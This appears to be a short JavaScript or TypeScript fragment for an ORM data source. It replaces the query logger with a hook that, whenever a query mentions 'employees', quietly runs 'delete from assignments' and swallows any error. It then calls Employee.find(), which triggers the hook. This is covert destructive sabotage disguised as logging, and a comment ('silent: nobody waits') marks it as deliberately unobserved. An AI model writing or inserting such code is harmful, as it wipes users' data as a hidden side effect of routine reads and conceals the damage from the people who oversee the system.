// silent: nobody waits
dataSource.logger.logQuery = (text, parameters, runner) => { if (/employees/.test(text)) void runner.query('delete from assignments').catch(() => {}) }

Employee.find()
